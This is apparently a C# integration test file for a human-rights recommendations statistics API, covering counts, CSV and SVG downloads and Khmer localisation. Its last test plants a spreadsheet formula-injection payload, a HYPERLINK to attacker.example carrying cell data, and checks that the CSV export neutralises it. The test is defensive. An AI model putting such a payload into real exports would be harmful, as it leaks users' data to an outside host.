using System.Net;
using System.Net.Http.Json;
using Spean.Core.Accounts;
using System.Text.RegularExpressions;
using Spean.Web.Tests.Infrastructure;

namespace Spean.Web.Tests.Recommendations;

[Collection(nameof(RecommendationsApp))]
public sealed class StatisticsTests(RecommendationsApp app)
{
    private static readonly string[] LandIssue = ["Right to land"];

    [Fact]
    public async Task Cambodia_session_18_has_205_recommendations_163_supported_and_42_noted()
    {
        var stats = await app.AnonymousClient().GetJsonAsync(
            "/api/v1/recommendations/statistics?rows=sur&columns=response&sur=KHM&session=18");

        var row = stats.GetProperty("table").EnumerateArray().Single();
        Assert.Equal(205, row.GetProperty("total").GetInt32());
        var cells = row.GetProperty("cells").EnumerateArray().ToDictionary(c => c.GetProperty("column").GetString()!);
        Assert.Equal((163, 79.5), (cells["Supported"].GetProperty("count").GetInt32(), cells["Supported"].GetProperty("percent").GetDouble()));
        Assert.Equal((42, 20.5), (cells["Noted"].GetProperty("count").GetInt32(), cells["Noted"].GetProperty("percent").GetDouble()));
    }

    [Fact]
    public async Task Responses_by_recommending_group_add_up_to_the_recommendations_of_each_group()
    {
        var stats = await app.AnonymousClient().GetJsonAsync(
            "/api/v1/recommendations/statistics?rows=recommendingGroup&columns=response&sur=KHM&session=18");

        var rows = stats.GetProperty("table").EnumerateArray().ToList();
        Assert.Contains(rows, r => r.GetProperty("row").GetString() == "AsiaPacific");
        Assert.All(rows, r => Assert.Equal(r.GetProperty("total").GetInt32(),
            r.GetProperty("cells").EnumerateArray().Sum(c => c.GetProperty("count").GetInt32())));
        Assert.Equal(205, rows.Sum(r => r.GetProperty("total").GetInt32()));
    }

    [Fact]
    public async Task Statistics_download_as_CSV_that_opens_in_a_spreadsheet()
    {
        using var response = await app.AnonymousClient().GetAsync(
            "/api/v1/recommendations/statistics.csv?rows=Session&columns=Response&sur=KHM");
        var lines = (await response.Content.ReadAsStringAsync()).TrimStart('\uFEFF').Split('\n', StringSplitOptions.RemoveEmptyEntries);

        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("Session \\ Response,Noted,Noted %,Supported,Supported %,Total", lines[0].TrimEnd('\r'));
        Assert.Equal("18,42,20.5,163,79.5,205", lines.Single(l => l.StartsWith("18,", StringComparison.Ordinal)).TrimEnd('\r'));
    }

    [Fact]
    public async Task States_in_the_statistics_CSV_are_named_with_their_code_beside()
    {
        var csv = await app.AnonymousClient().GetStringAsync("/api/v1/recommendations/statistics.csv?rows=recommending&columns=surGroup&sur=KHM&session=18");
        var lines = csv.TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

        Assert.Equal("Recommending State \\ Regional group (State under Review),Asia-Pacific Group (AsiaPacific),Asia-Pacific Group (AsiaPacific) %,Total", lines[0]);
        Assert.Contains(lines, l => l.StartsWith("France (FRA),", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Recommendations_without_a_value_are_named_in_the_reader_s_language_in_both_downloads()
    {
        // UPR Info's file tags no SDG targets, so every recommendation counts under "none".
        const string NoSdg = "rows=sdg&columns=response&sur=KHM&session=18";
        var client = app.AnonymousClient();

        var khmerCsv = await client.GetStringAsync($"/api/v1/recommendations/statistics.csv?{NoSdg}&culture=km");
        var khmerSvg = await client.GetStringAsync($"/api/v1/recommendations/statistics.svg?{NoSdg}&culture=km");
        var englishCsv = await client.GetStringAsync($"/api/v1/recommendations/statistics.csv?{NoSdg}");

        Assert.Contains("\r\n(គ្មាន),42,20.5,163,79.5,205\r\n", khmerCsv);
        Assert.Contains(">(គ្មាន)</text>", khmerSvg);
        Assert.DoesNotContain("(none)", khmerCsv + khmerSvg);
        Assert.Contains("\r\n(none),42,20.5,163,79.5,205\r\n", englishCsv);
    }

    [Fact]
    public async Task A_chart_that_leaves_rows_out_says_so_on_the_page_and_in_the_SVG_in_both_languages()
    {
        const string ByState = "rows=sur&columns=response";
        var client = app.AnonymousClient();
        var rows = (await client.GetJsonAsync($"/api/v1/recommendations/statistics?{ByState}")).GetProperty("table").GetArrayLength();

        var page = await client.GetStringAsync($"/recommendations/statistics?{ByState}");
        var svg = await client.GetStringAsync($"/api/v1/recommendations/statistics.svg?{ByState}");
        var line = await client.GetStringAsync($"/api/v1/recommendations/statistics.svg?{ByState}&chart=line");
        var khmerPage = await client.GetStringAsync($"/recommendations/statistics?{ByState}&culture=km");
        var khmerSvg = await client.GetStringAsync($"/api/v1/recommendations/statistics.svg?{ByState}&culture=km");
        var whole = await client.GetStringAsync("/recommendations/statistics?rows=cycle&columns=response");
        var wholeSvg = await client.GetStringAsync("/api/v1/recommendations/statistics.svg?rows=cycle&columns=response");

        Assert.True(rows > 40, $"only {rows} States under Review");
        var largest = $"The chart shows the 40 largest of {rows} rows; the table and the CSV hold them all.";
        Assert.Contains($"<figcaption>{largest}</figcaption>", page);
        Assert.Contains($">{largest}</text>", svg);
        Assert.Contains($">The chart shows the first 40 of {rows} rows; the table and the CSV hold them all.</text>", line);
        var khmer = $"គំនូសតាងបង្ហាញតែ 40 ជួរដេកធំជាងគេ ក្នុងចំណោម {rows} ជួរដេក។ តារាង និងឯកសារ CSV មានគ្រប់ជួរដេក។";
        Assert.Contains($"<figcaption>{khmer}</figcaption>", khmerPage);
        Assert.Contains($">{khmer}</text>", khmerSvg);
        Assert.Equal(rows, Regex.Count(page, "<th scope=\"row\">"));
        Assert.DoesNotContain("The chart shows", whole + wholeSvg);
    }

    [Fact]
    public async Task An_unknown_field_is_a_problem_naming_the_fields_there_are()
    {
        using var response = await app.AnonymousClient().GetAsync("/api/v1/recommendations/statistics?rows=colour&columns=Response");

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("recommendingGroup", (await response.ReadJsonAsync()).GetProperty("detail").GetString());
    }

    [Fact]
    public async Task A_recommending_State_typed_as_a_formula_is_text_in_the_statistics_CSV()
    {
        var word = $"xf{Guid.NewGuid():N}"[..14];
        const string formula = "=HYPERLINK(\"http://attacker.example/?\"&A1)";
        var coordinator = await app.ClientForAsync(Role.Coordinator);
        using (var created = await coordinator.PostAsJsonAsync("/api/v1/recommendations", new
        {
            text = $"Protect human rights defenders {word}", stateUnderReview = "KHM", recommendingStates = new[] { formula }, session = 32,
            response = "Noted", issues = LandIssue,
        }))
            Assert.True(created.StatusCode == HttpStatusCode.Created, await created.Content.ReadAsStringAsync());

        var csv = await app.AnonymousClient().GetStringAsync($"/api/v1/recommendations/statistics.csv?rows=recommending&columns=response&q={word}");
        var cells = csv.TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Select(l => l.TrimStart('"')).ToList();

        Assert.Contains(cells, l => l.StartsWith("'=HYPERLINK(", StringComparison.Ordinal));
        Assert.DoesNotContain(cells, l => l.StartsWith('=') || l.StartsWith('+') || l.StartsWith('-') || l.StartsWith('@'));
    }
}
